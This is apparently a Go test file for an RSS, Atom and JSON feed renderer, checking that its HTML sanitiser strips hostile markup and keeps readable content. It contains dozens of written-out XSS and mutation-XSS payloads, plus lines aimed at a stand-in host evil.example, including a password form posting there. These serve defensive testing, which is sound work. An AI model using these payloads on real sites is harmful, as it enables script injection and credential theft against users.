package feed

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func rendered(src string) string {
	it := Item{content: body{text: src}, base: "https://origin.example/dir/"}
	it.Render()
	return it.Content
}

// hostile 21: nothing that runs, loads, submits or restyles comes through.
func TestHostile21Sanitised(t *testing.T) {
	for _, src := range []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `<img src="x" OnError = 'alert(1)'>`, `<b onmouseover=alert(1)>x</b>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" java&#10;script:alert(1)">x</a>`,
		`<a href="&#106;avascript:alert(1)">x</a>`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`,
		`<img src="data:text/html,x">`,
		`<svg><script>alert(1)</script></svg>`, `<svg onload=alert(1)>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<p style="background:url(javascript:alert(1))">x</p>`, `<p style="width:expression(alert(1))">x</p>`,
		`<style>*{display:none}</style>`,
		`<meta http-equiv="refresh" content="0;url=//evil.example">`, `<base href="//evil.example/">`,
		`<link rel=stylesheet href=//evil.example>`,
		`<form action="//evil.example"><input name=p type=password><button>x</button></form>`,
		`<object data="//evil.example"></object>`, `<embed src="javascript:alert(1)">`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<iframe src="javascript:alert(1)"></iframe>`, `<template><script>alert(1)</script></template>`,
		`<textarea></textarea><img src=x onerror=alert(1)>`,
		`<img srcset="javascript:alert(1) 1x">`, `<video poster="javascript:alert(1)" src=x></video>`,
		`<video><source onerror="alert(1)"></video>`,
		`<a href="https://x.example" target=_top ping="//evil.example" id=location name=cookie class=hidden>x</a>`,
		`<!--[if IE]><script>alert(1)</script><![endif]-->`, `<xmp><script>alert(1)</script></xmp>`,
		`<plaintext><script>alert(1)</script>`,
		`<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`,
		`<title><script>alert(1)</script></title>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `<table><a href="javascript:alert(1)"><td>x`, `<b/onclick=alert(1)>x`,
		"<img\x0bsrc=x\x0conerror=alert(1)>",
	} {
		checkSafe(t, src, rendered(src))
	}
}

// checkSafe looks at sanitised HTML as a browser would.
func checkSafe(t interface{ Errorf(string, ...any) }, src, out string) {
	z := html.NewTokenizer(strings.NewReader(out))
	var open []string
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			break
		}
		tok := z.Token()
		if kind == html.TextToken {
			continue
		}
		if !htmlNames[tok.Data] || droppedNames[tok.Data] || hiddenNames[tok.Data] {
			t.Errorf("%q leaves <%s> in %q", src, tok.Data, out)
		}
		switch {
		case kind == html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				t.Errorf("%q gives unbalanced %q", src, out)
				return
			}
			open = open[:len(open)-1]
		case !voidNames[tok.Data]:
			open = append(open, tok.Data)
		}
		for _, a := range tok.Attr {
			checkAttr(t, src, out, a)
		}
	}
	if len(open) > 0 {
		t.Errorf("%q leaves %q open in %q", src, open, out)
	}
}

func checkAttr(t interface{ Errorf(string, ...any) }, src, out string, a html.Attribute) {
	switch a.Key {
	case "href", "src", "poster", "cite":
		if !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "https://") &&
			!strings.HasPrefix(a.Val, "mailto:") {
			t.Errorf("%q leaves %s=%q in %q", src, a.Key, a.Val, out)
		}
	case "alt", "title", "rel", "controls", "type", "width", "height", "colspan", "rowspan", "start", "value",
		"datetime", "dir", "lang":
	default:
		t.Errorf("%q leaves %s in %q", src, a.Key, out)
	}
}

func TestRenderKeepsWhatPeopleRead(t *testing.T) {
	for src, want := range map[string]string{
		`<p>a<br>b</p>`:          `<p>a<br>b</p>`,
		`plain &amp; simple`:     `plain &amp; simple`,
		`<p>unclosed <b>bold`:    `<p>unclosed <b>bold</b></p>`,
		`</div></article>closed`: `closed`,
		`<b><i>crossed</b></i>`:  `<b><i>crossed</i></b>`, `<a href="x">y</a>`: `<a href="https://origin.example/dir/x" rel="noopener noreferrer">y</a>`,
		`<img src="/i.png" alt="An image" onclick=x>`: `<img src="https://origin.example/i.png" alt="An image">`,
		`<img src="i.gif" data-src="/real.png">`:      `<img src="https://origin.example/real.png">`,
		`a<img src="/p.gif" width="1" height="1">b`:   `ab`,
		`a<img src="/p.gif" style="display: none">b`:  `ab`,
		`a<img src="https://pixel.wp.com/b.gif">b`:    `ab`, `<audio src="a.mp3"></audio>`: `<audio src="https://origin.example/dir/a.mp3" controls="controls"></audio>`,
		`<li>loose</li>`:    `loose`,
		`<ul><li>kept</ul>`: `<ul><li>kept</li></ul>`,
		`<td>loose</td>`:    `loose`, `<iframe src="https://video.example/embed/1?x"></iframe>after`: `<p><a href="https://video.example/embed/1?x" rel="noopener noreferrer">video.example/embed/1</a></p>after`,
		`<svg>never closed`:             `never closed`,
		`<p>a<script>x</script>b</p>`:   `<p>ab</p>`,
		`<custom-tag>text</custom-tag>`: `text`,
		"<pre>a\n  b</pre>":             "<pre>a\n  b</pre>",
	} {
		got := rendered(src)
		if got != want {
			t.Errorf("%s\ngives %s\nwant  %s", src, got, want)
		}
		checkSafe(t, src, got)
	}
}

func FuzzRender(f *testing.F) {
	for _, seed := range []string{`<p>a<br>b`, `<svg><style><img src=x onerror=1>`, `<a href="java&#9;script:x">`,
		`<ul><li><ul></li>`, `<img src=//x width=1>`, `<iframe src=x>`,
		`<img class=lazy data-srcset="a 1w,b 2w"> <noscript><img src=c>`,
		`<picture><source srcset="a, b 2x"><img data-src=//c><noscript><img src=x onerror=1></noscript>`} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, src string) { checkSafe(t, src, rendered(src)) })
}

// hostile 83: content that shows nothing hides neither a description nor another content, in any format and place; a
// picture, a sound or a frame alone is content.
func TestHostile83BlankContent(t *testing.T) {
	const text = "The valve was replaced."
	blank := []string{"", " \n\t", "<div> </div>", "&nbsp;", "&#160;\u00a0", "<br>", "<p></p><p>&nbsp;</p>",
		"<span> </span><br/>", "\u200b\u2060\ufeff", "&zwnj;&#8203;",
		"<!-- nothing -->", "<script>var a = 'text'</script>", "<style>p { color: red }</style>", "<hr>",
		`<a href="/x"></a>`, "<div><p><span>\u3164</span></p></div>", "<table><tr><td></td></tr></table>",
		`<img src="https://a.example/p.gif" width="1" height="1">`, `<img alt="">`,
		`<img src="https://pixel.wp.com/b.gif">`, `<iframe></iframe>`, "\u2800", "&shy;", "<svg><text>x</text></svg>"}
	shown := []string{"x", "&amp;", "<p>.</p>", `<img src="https://a.example/b.jpg">`,
		`<video><source src="https://a.example/v.mp4"></video>`,
		`<audio src="https://a.example/a.mp3"></audio>`, `<iframe src="https://a.example/player"></iframe>`,
		`<p><picture><img data-src="https://a.example/b.jpg"></picture></p>`, "🚀", "0"}
	for name, format := range map[string]func(content string) string{
		"RSS": func(c string) string {
			return rssDoc("<item><guid>1</guid><description>" + text + "</description><content:encoded>" + escape(c) +
				"</content:encoded></item>")
		},
		"RSS, in CDATA": func(c string) string {
			return rssDoc("<item><guid>1</guid><content:encoded><![CDATA[" + c + "]]></content:encoded><description>" +
				text + "</description></item>")
		},
		"Atom": func(c string) string {
			return atomDoc("<entry><id>1</id><summary>" + text + `</summary><content type="html">` + escape(c) +
				"</content></entry>")
		},
		"JSON Feed": func(c string) string {
			return `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","summary":"` + text +
				`","content_html":` + quoteJSON(c) + `}]}`
		},
		"JSON Feed, plain beside HTML": func(c string) string {
			return `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","content_text":"` + text +
				`","content_html":` + quoteJSON(c) + `}]}`
		},
		"JSON": func(c string) string {
			return `[{"id":"1","title":"t","url":"https://a.example/1","summary":"` + text + `","content":` +
				quoteJSON(c) + `}]`
		},
	} {
		read := func(content string) *Item {
			it := &mustParse(t, format(content)).Items[0]
			it.Render()
			return it
		}
		none := read("").Mark.Print
		for _, content := range blank {
			if it := read(content); !strings.Contains(it.Summary+it.Content, text) || it.Raw != text ||
				it.Mark.Print != none || it.Summary != "" && it.Content != "" {
				t.Errorf("%s, %q: summary %q, content %q, raw %q", name, content, it.Summary, it.Content, it.Raw)
			}
		}
		for _, content := range shown {
			if it := read(content); it.Content == "" || strings.Contains(it.Content, text) || it.Raw != content {
				t.Errorf("%s, %q: content %q, raw %q", name, content, it.Content, it.Raw)
			}
		}
	}
	for _, c := range []struct{ doc, want string }{ // a blank element does not stand in the way of another
		{rssDoc("<item><guid>1</guid><description> </description><media:description>" + text +
			"</media:description></item>"), text},
		{rssDoc("<item><guid>1</guid><content:encoded>&amp;nbsp;</content:encoded><content:encoded>" + text +
			"</content:encoded></item>"), text},
		{rssDoc("<item><guid>1</guid><description>&lt;br></description></item>"), ""},
	} {
		it := &mustParse(t, c.doc).Items[0]
		if it.Render(); it.Summary+it.Content != c.want {
			t.Errorf("%s: %q", c.doc, it.Summary+it.Content)
		}
	}
}
